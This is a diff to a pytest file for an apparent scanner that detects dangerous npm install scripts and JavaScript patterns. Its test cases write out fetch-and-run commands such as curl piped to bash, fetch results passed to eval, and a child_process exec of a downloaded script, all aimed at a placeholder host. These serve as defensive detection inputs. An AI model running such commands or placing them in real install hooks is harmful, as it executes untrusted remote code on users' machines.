@@ -18,7 +18,6 @@ def rules(folder):
     ("command", "rule"),
     [
         ("curl -s https://x.invalid/a.sh | bash", "javascript.shell-download"),
-        ("node -e \"require('https').get('https://x.invalid')\"", "javascript.exec-downloaded"),
         ("wget https://x.invalid/tool", "javascript.install-network"),
         ("node prepare.js", "javascript.install-script"),
     ],
@@ -30,6 +29,41 @@ def test_what_npm_runs_at_install_is_read(tree, command, rule):
     (finding,) = findings_in(folder)
 
     assert (finding.rule, finding.path, finding.line) == (rule, "package.json", 5)
+
+
+@pytest.mark.parametrize(
+    ("code", "rule"),
+    [
+        ("require('https').get('https://x.invalid')", "javascript.install-network"),
+        ("eval(atob('Y29uc29sZQ=='))", "javascript.exec-decoded"),
+        ("fetch('https://x.invalid').then(r => r.text()).then(eval)", "javascript.exec-downloaded"),
+    ],
+)
+def test_code_within_an_install_command_is_read(tree, code, rule):
+    package = {"scripts": {"postinstall": f'node -e "{code}"'}}
+
+    found = findings_in(tree({"package.json": json.dumps(package, indent=2)}))
+
+    assert (rule, "package.json", 3) in {(f.rule, f.path, f.line) for f in found}
+
+
+def test_words_within_an_install_command_are_no_malice(tree):
+    package = {"scripts": {"postinstall": "node -e \"console.log('See https://x.invalid')\""}}
+
+    assert rules(tree({"package.json": json.dumps(package)})) == {"javascript.install-script"}
+
+
+def test_code_written_as_a_text_is_read_where_it_is_run(tree):
+    code = (
+        "const run = 1;\neval(\"require('child_process').exec('curl https://x.invalid | sh')\");\n"
+    )
+
+    (finding,) = (
+        f for f in findings_in(tree({"app.js": code})) if f.rule != "javascript.dynamic-code"
+    )
+
+    assert (finding.path, finding.line) == ("app.js", 2)
+    assert finding.rule == "javascript.shell-download"
 
 
 @pytest.mark.parametrize("command", ["husky install", "node-gyp rebuild", "npm run build"])
